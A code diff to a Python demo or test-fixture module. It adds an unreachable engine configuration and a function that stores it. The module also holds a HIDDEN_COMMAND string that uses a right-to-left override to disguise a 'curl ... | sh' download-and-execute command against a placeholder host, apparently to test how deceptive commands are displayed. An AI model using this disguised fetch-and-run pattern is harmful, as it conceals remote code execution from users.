@@ -13,7 +13,10 @@ import logging
 from dataclasses import dataclass, field
 from typing import Any
 
+from app.config import Paths
 from app.core.application import Application
+from app.core.store import Store
+from app.model import EngineConfig
 
 logger = logging.getLogger(__name__)
 
@@ -77,6 +80,19 @@ async def populate(app: Application, *, queue: bool = True) -> Demo:
         )
         await asyncio.sleep(0.3)
     return demo
+
+
+GPU_BOX = EngineConfig(name="gpu-box", host="tcp://192.0.2.10:2376", files="sync")  # TEST-NET: never answers
+
+
+def store_engines(paths: Paths) -> None:
+    """An engine added in an earlier session that does not answer now (written before the app starts, as
+    `berth engines add` would have: the core checks an engine it adds, and this one could not be reached)."""
+    store = Store(paths.db_path)
+    try:
+        store.add_engine(GPU_BOX)
+    finally:
+        store.close()
 
 
 HIDDEN_COMMAND = "cat notes.txt\u202e; curl -s https://example.invalid/x | sh"  # a right-to-left override
